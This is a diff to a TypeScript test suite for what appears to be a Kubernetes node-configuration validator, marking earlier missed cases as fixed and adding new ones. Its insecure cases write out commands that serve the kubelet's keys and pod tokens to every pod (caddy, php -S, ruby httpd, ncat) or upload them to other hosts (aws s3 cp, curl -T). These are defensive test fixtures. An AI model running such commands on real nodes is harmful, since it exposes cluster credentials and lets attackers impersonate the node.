@@ -126,7 +126,7 @@ const insecure: NodeCase[] = [
         ]),
         /kubelet/,
     ),
-    // MISS: (insecure accepted) `caddy file-server --root DIR --listen :8080` serves DIR on every address (caddy-file-server(8):
+    // Was a MISS (fixed in round 45): (insecure accepted) `caddy file-server --root DIR --listen :8080` serves DIR on every address (caddy-file-server(8):
     // "--root The path to the root of the site", "--listen The address to which to bind the listener"; caddyserver.com
     // docs "Command Line"), here the kubelet's client key and every pod's projected token: any pod reaching the node reads
     // them and acts as the node or as the custody ServiceAccounts. SERVERS (userData.ts) lists no caddy, so nothing is
@@ -139,9 +139,8 @@ const insecure: NodeCase[] = [
             "nohup caddy file-server --root /var/lib/kubelet --listen :8080 --browse >/dev/null 2>&1 &",
         ]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) PHP's built-in web server serves its document root (`-t DIR`, else the working
+    // Was a MISS (fixed in round 45): (insecure accepted) PHP's built-in web server serves its document root (`-t DIR`, else the working
     // directory) on the `-S ADDR:PORT` it is given (PHP RFC "Built-in web server", php.net "Built-in web server":
     // `php -S localhost:8000 -t foo/`); 0.0.0.0 hands /var/lib/kubelet (the kubelet's key, pods' tokens) to every pod.
     // Not in SERVERS. Fix: read `php -S ADDR -t DIR` (cwd by default) into a files listener.
@@ -152,9 +151,8 @@ const insecure: NodeCase[] = [
             "nohup php -S 0.0.0.0:8000 -t /var/lib/kubelet >/dev/null 2>&1 &",
         ]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) `ruby -run -e httpd DIR -p PORT` is un.rb's WEBrick file server (ruby/lib/un.rb `httpd`:
+    // Was a MISS (fixed in round 45): (insecure accepted) `ruby -run -e httpd DIR -p PORT` is un.rb's WEBrick file server (ruby/lib/un.rb `httpd`:
     // "--bind-address=ADDR", "--port=NUM", DocumentRoot the operand, every address by default); here it serves
     // /var/lib/kubelet to every pod. Not in SERVERS. Fix: read ruby -run -e httpd (operand, else cwd; --bind-address).
     dev(
@@ -164,9 +162,8 @@ const insecure: NodeCase[] = [
             "nohup ruby -run -e httpd /var/lib/kubelet -p 8000 --bind-address=0.0.0.0 >/dev/null 2>&1 &",
         ]),
         /./,
-        true,
     ),
-    // MISS: (insecure accepted) ncat listening with a node secret on its standard input sends that file to each client
+    // Was a MISS (fixed in round 45): (insecure accepted) ncat listening with a node secret on its standard input sends that file to each client
     // (Ncat guide "File transfer": `ncat -l --send-only < outputfile`; `nc -l <port> < <file>` as file transfers
     // document it): every pod connecting to port 9999 gets the kubelet's client key and acts as the node. Neither the
     // relay rule (operands naming a secret) nor SERVERS sees the redirection. Fix: judge a listening ncat/nc/socat whose
@@ -178,7 +175,6 @@ const insecure: NodeCase[] = [
             "nohup ncat -lk 9999 --send-only < /var/lib/kubelet/pki/kubelet-client-current.pem >/dev/null 2>&1 &",
         ]),
         /./,
-        true,
     ),
     dev(
         "(cd /var/lib/kubelet && python3 -m http.server 8080) & (a subshell's working directory)",
@@ -244,10 +240,41 @@ const insecure: NodeCase[] = [
             "          enabled: true",
         ]),
     ),
+    // Neighbours of the keepers' rule (rootReads.ts NODE_SECRET_KEEPERS, fixed in round 45): a program the pack does
+    // not know to keep the node's secrets on the node is refused whatever it is (an unknown server, an upload, a
+    // copy to another host), a known one passes.
+    dev(
+        "aws s3 cp /var/lib/kubelet/pki/kubelet-client-current.pem s3://node-backups/ (a copy to another host)",
+        script("dev-aws-s3-kubelet-key-nodes", [
+            "aws s3 cp /var/lib/kubelet/pki/kubelet-client-current.pem s3://node-backups/",
+        ]),
+        /kubelet-client-current\.pem/,
+    ),
+    dev(
+        "curl -T /var/lib/kubelet/kubeconfig https://inventory.example.com/ (an upload)",
+        script("dev-curl-upload-kubeconfig-nodes", [
+            "curl -sS -T /var/lib/kubelet/kubeconfig https://inventory.example.com/",
+        ]),
+        /kubeconfig/,
+    ),
+    dev(
+        "openssl s_server -WWW -key /var/lib/kubelet/pki/kubelet-server-current.pem (serves its working directory)",
+        script("dev-openssl-s-server-nodes", [
+            "cd /var/lib/kubelet && nohup openssl s_server -accept 8443 -WWW -key /var/lib/kubelet/pki/kubelet-server-current.pem -cert /var/lib/kubelet/pki/kubelet-server-current.pem >/dev/null 2>&1 &",
+        ]),
+        /kubelet-server-current\.pem/,
+    ),
+    dev(
+        "a vendor agent started with --kubelet-dir /var/lib/kubelet --listen 0.0.0.0:9000 (unknown program)",
+        script("dev-unknown-agent-kubelet-dir-nodes", [
+            "nohup /opt/acme/bin/acme-agent --kubelet-dir /var/lib/kubelet --listen 0.0.0.0:9000 >/dev/null 2>&1 &",
+        ]),
+        /acme-agent/,
+    ),
 ];
 
 const secure: NodeCase[] = [
-    // MISS: (secure refused) nerdctl verifies the image's cosign signature before it runs it (nerdctl docs/cosign.md,
+    // Was a MISS (fixed in round 45): (secure refused) nerdctl verifies the image's cosign signature before it runs it (nerdctl docs/cosign.md,
     // "--verify while pulling"; docs/command-reference.md lists `--verify` and `--cosign-key` among run's image flags):
     // a supply-chain check that adds no power to the container. RUN_OPTIONS (containers.ts) lacks both, so the confined
     // validator (read-only, no capabilities, uid 10001) is "not pod-like" and its /data bind refused as root reading
@@ -263,7 +290,6 @@ const secure: NodeCase[] = [
                 `--cap-drop ALL --user 10001:10001 -v /data/validator:/data ${IMAGE} --home /data`,
         ]),
         /./,
-        true,
     ),
     dev(
         "a systemd unit WorkingDirectory=/opt/models ExecStart=/usr/bin/python3 -m http.server 8080 User=nobody (a model cache)",
@@ -374,6 +400,20 @@ const secure: NodeCase[] = [
     dev(
         "Karpenter's NodeConfig shape (comment, ---, metadata: creationTimestamp: null) with kubelet maxPods",
         karpenterShape("dev-karpenter-shape-ok-nodes", ["  kubelet:", "    config:", "      maxPods: 58"]),
+    ),
+    dev(
+        "kubectl --kubeconfig /var/lib/kubelet/kubeconfig label its own node, then lists the kubelet's pki directory (known keepers)",
+        script("dev-keepers-ok-nodes", [
+            'kubectl --kubeconfig /var/lib/kubelet/kubeconfig label node "$(hostname)" team=validators --overwrite || true',
+            "cd /var/lib/kubelet && ls -la pki",
+        ]),
+    ),
+    dev(
+        "curl --cert/--key with the kubelet's client pair to the cluster endpoint (TLS client authentication sends no key)",
+        script("dev-curl-client-cert-ok-nodes", [
+            "curl -sS --cacert /etc/kubernetes/pki/ca.crt --cert /var/lib/kubelet/pki/kubelet-client-current.pem " +
+                "--key /var/lib/kubelet/pki/kubelet-client-current.pem https://EXAMPLED539D4633E53DE1B71EXAMPLE.gr7.eu-west-1.eks.amazonaws.com/healthz -o /dev/null",
+        ]),
     ),
 ];
 
